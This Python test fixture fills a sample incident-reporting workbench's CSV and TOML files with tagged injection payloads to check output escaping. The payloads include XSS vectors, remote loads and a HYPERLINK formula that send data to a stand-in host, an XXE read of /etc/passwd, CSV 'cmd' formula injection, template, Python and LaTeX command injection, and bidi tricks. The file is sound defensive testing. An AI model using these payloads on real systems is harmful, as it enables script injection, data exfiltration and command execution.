"""Text of the field that wants to be more than text: payloads, and an office whose files hold them all."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from itertools import count
from pathlib import Path

from workbench import sample

OUTSIDE = "http://192.0.2.77"
"""An address of the documentation network: whoever fetches from it is seen, and reaches nobody."""

_RUN = "alert(document.domain)"
MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={OUTSIDE}/a.js></ScRiPt>",
    f"<script>fetch('{OUTSIDE}/b')</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={OUTSIDE}/c.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src={OUTSIDE}/d>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={OUTSIDE}/e.swf></object>",
    f"<embed src={OUTSIDE}/f>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content=0;url={OUTSIDE}/g>",
    f"<link rel=stylesheet href={OUTSIDE}/h.css>",
    f"<link rel=prefetch href={OUTSIDE}/i>",
    f"<style>@import url({OUTSIDE}/j.css);</style>",
    f"<style>body{{background:url({OUTSIDE}/k)}}</style>",
    f"<div style=background:url({OUTSIDE}/l)>x</div>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x",
    f"<video src=x onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<video poster={OUTSIDE}/m.png>",
    f"<marquee onstart={_RUN}>x",
    f"<form action={OUTSIDE}/n><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    f"<a href={OUTSIDE}/o ping={OUTSIDE}/p>x</a>",
    f"<isindex action=javascript:{_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<frameset onload={_RUN}>",
    f"<x contenteditable onblur={_RUN}>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--><script>{_RUN}</script>-->",
    f"--!><img src=x onerror={_RUN}>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    f"<?xml-stylesheet href={OUTSIDE}/q.xsl?>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}",
    f"`onload={_RUN}`",
    f'x" style="background:url({OUTSIDE}/r)',
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<%= 7*7 %>",
    f"javascript:{_RUN}",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"{OUTSIDE}/plain",
    "//192.0.2.77/x",
    "file:///etc/passwd",
    "mailto:a@example.org",
    "www.example.org",
    "\\\\192.0.2.77\\share",
    f"<portal src={OUTSIDE}/s>",
    f"<table background={OUTSIDE}/t>",
    f"<image href={OUTSIDE}/u>",
    f"<use href={OUTSIDE}/v#x>",
    f"<script type=module>import '{OUTSIDE}/w'</script>",
)
WRITTEN = (
    "[link](http://192.0.2.77/md)",
    "![image](http://192.0.2.77/md.png)",
    "<http://192.0.2.77/auto>",
    "**bold**",
    "# heading",
    "```code```",
    "[x]: http://192.0.2.77/ref",
    "| a | b |",
    "- item",
    "> quote",
    "***",
    "~~x~~",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "&lt;b&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "&#x3c;img&#x3e;",
    "&colon;",
    "%3Cscript%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003e",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ cycler.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "{area}",
    "{0}",
    "{}",
    "{{area}}",
    "%(area)s",
    "%s",
    "$area",
    "{week!r}",
    "\"; import os; os.system('true')",
    "__import__('os').system('true')",
    "'''\"\"\"",
    "\\",
    "\\n",
    "\\x41",
    '#read("/etc/passwd")',
    '#import "@preview/x:1.0.0"',
    '#include "/etc/passwd"',
    '#eval("1+1")',
    "$ x^2 $",
    "@label",
    "<label>",
    "= Heading",
    "*strong* _emph_",
    '#link("http://192.0.2.77/typst")',
    '#image("/etc/passwd")',
    "#set page(width: 1pt)",
    "#{ while true {} }",
    "\\input{/etc/passwd}",
    "\\href{http://192.0.2.77}{x}",
    "\\write18{true}",
    "\\end{document}",
    "$$\\sum$$",
    "`raw`",
    "~",
    "//comment",
    "/*comment*/",
)
FORMULAS = (
    '=HYPERLINK("http://192.0.2.77/?x="&A1,"more")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("http://192.0.2.77/","//a")',
    "=DDE(1;2;3)",
    '=WEBSERVICE("http://192.0.2.77/")',
    '=IMAGE("http://192.0.2.77/x.png")',
    '"=1+1"',
    "%0A=1+1",
    "|calc",
    "=\u200b1+1",
    "'=1+1",
    ";=1+1",
    ",=1+1",
    'a,b"c',
    '"',
    '""',
    "TRUE",
    "1e999",
    "0x41",
)
SIGNS = (
    "\u202egnol\u202c",
    "\u2066left\u2069",
    "\u200e\u200f",
    "in\u200bvis\u200cib\u200dle",
    "so\u00adft",
    "\ufeffmark",
    "\u0645\u0631\u062d\u0628\u0627 <b>",
    '\u05e9\u05dc\u05d5\u05dd "x"',
    "\uff1d1+1",
    "\uff1cscript\uff1e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1f2\U0001f1ff",
    "e\u0301\u0302\u0303",
    "be\x07ll",
    "\x1b[31mred",
    "a\tb",
    "a\u2028b",
    "a\x85b",
    "\ufdd0\uffff",
    "\U000e0041\U000e007f",
    "\ue000",
    "\U0001d4d0\U0001d4d1",
)
HEAVY = {"a megabyte": "Gravelroad " * 95_000, "marks": "e" + "\u0301" * 100_000}

PAYLOADS = (*MARKUP, *WRITTEN, *FORMULAS, *SIGNS)

_ROW = {
    "incident": {
        "occurred_on": "2026-11-11", "date_precision": "day", "event_type": "attack_on_civilians",
        "threat_category": "armed_conflict", "killed_best": "7", "verification": "confirmed",
    },
    "liaison_entry": {
        "occurred_on": "2026-11-12", "organisation_kind": "police", "channel": "phone", "info_grade": "B2",
        "consent_to_quote": "yes",
    },
    "commitment": {"made_on": "2026-11-10", "due_on": "2026-11-12", "state": "open"},
    "programme_site": {"state": "suspended", "state_since": "2026-11-10", "criticality": "PC1"},
    "alert": {"occurred_on": "2026-11-10", "raised_by_kind": "community", "outcome": "occurred"},
    "assessment": {
        "area": "kestara", "week": "2026-W46", "occurred_on": "2026-11-09", "confidence": "low",
        "horizon_days": "14",
    },
}  # fmt: skip
_TEXTS = {
    "incident": ("actor1", "actor2", "place_name", "headline", "narrative", "releasable_text", "sub_type"),
    "liaison_entry": ("organisation", "interlocutor_role", "officer", "summary", "releasable_text"),
    "commitment": ("made_by", "text", "releasable_text"),
    "programme_site": ("organisation", "programme", "resume_condition"),
    "alert": ("indicator", "threat", "response"),
    "assessment": ("text", "because", "owner"),
}  # fmt: skip
_SOURCE = """
[[source]]
slug = "{slug}"
title = {title}
record = "{slug}"
reader = "table"
path = "data/injected_{slug}.csv"
licence = {licence}
attribution = {attribution}
level = "{level}"
columns = {{ {columns} }}
"""


@dataclass(frozen=True)
class Text:
    """One text put into a cell: the payload, and the tag by which it is known again."""

    payload: str
    record: str
    column: str
    tag: str

    @property
    def cell(self) -> str:
        """The payload first, so that it starts the cell, and the tag last."""
        return f"{self.payload} {self.tag}"


def make(folder: Path) -> dict[str, Text]:
    """Make the office in `folder`, its files full of payloads; return every text by its tag."""
    sample.make(folder)
    known: dict[str, Text] = {}
    ends = "# ---- Incidents, from two publishers"
    configuration = (folder / "workbench.toml").read_text(encoding="utf-8").partition(ends)[0]
    configuration = configuration.replace('["meridian", "desk_log"]', '["incident"]')
    configuration = configuration.replace("[[briefing]]\n", '[[briefing]]\ntables = ["csv", "xlsx"]\n')
    for record, columns in _TEXTS.items():
        titles = [_text(known, payload, record, part) for part, payload in _TITLES.items()]
        mapped = ["record_id", *_ROW[record], *columns, "district_given"]
        mapped += ["part", "position"] if record == "assessment" else []
        configuration += _SOURCE.format(
            slug=record, title=_toml(titles[0]), licence=_toml(titles[1]), attribution=_toml(titles[2]),
            level="public" if record in {"incident", "assessment"} else "internal",
            columns=", ".join(f'{name} = "{name}"' for name in mapped),
        )  # fmt: skip
        _write(folder / "data" / f"injected_{record}.csv", mapped, _rows(known, record, columns))
    (folder / "workbench.toml").write_text(configuration, encoding="utf-8")
    return known


_TITLES = {"title": MARKUP[0], "licence": MARKUP[3], "attribution": FORMULAS[0]}


_NUMBERS = {
    "incident": 30, "liaison_entry": len(PAYLOADS), "commitment": 12, "programme_site": 12, "alert": 12,
    "assessment": 24,
}  # fmt: skip
"""Rows of each type: in the liaison log, every payload stands once in every column that people write."""
_HEAVY_IN = {"incident": "narrative", "liaison_entry": "summary"}


def _rows(known: dict[str, Text], record: str, columns: Sequence[str]) -> Iterable[Mapping[str, str]]:
    """Return rows whose cells take the payloads in turn, each record type from another one on."""
    turn = count(sum(map(ord, record)))
    parts = ("judgement", "situation", "outlook", "implication", "recommendation", "assumption")
    for number in range(_NUMBERS[record]):
        row = {**_ROW[record], "record_id": f"{record[:2]}{number}", "district_given": "Kuro"}
        if record == "assessment":
            row |= {"part": parts[number % len(parts)], "position": str(number + 1)}
        for column in columns:
            row[column] = _text(known, PAYLOADS[next(turn) % len(PAYLOADS)], record, column)
        yield row
    for name, payload in HEAVY.items() if record in _HEAVY_IN else ():
        given = {**_ROW[record], "record_id": name[:3], "district_given": "Kuro"}
        yield {**given, **dict.fromkeys(columns, f"heavy {name}"), _HEAVY_IN[record]: payload}


def _text(known: dict[str, Text], payload: str, record: str, column: str) -> str:
    tag = f"zq{len(known):05d}k"
    known[tag] = Text(payload, record, column, tag)
    return known[tag].cell


def _toml(text: str) -> str:
    return json.dumps(text)


def _write(file: Path, columns: list[str], rows: Iterable[Mapping[str, str]]) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    with file.open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, columns)
        writer.writeheader()
        writer.writerows(rows)
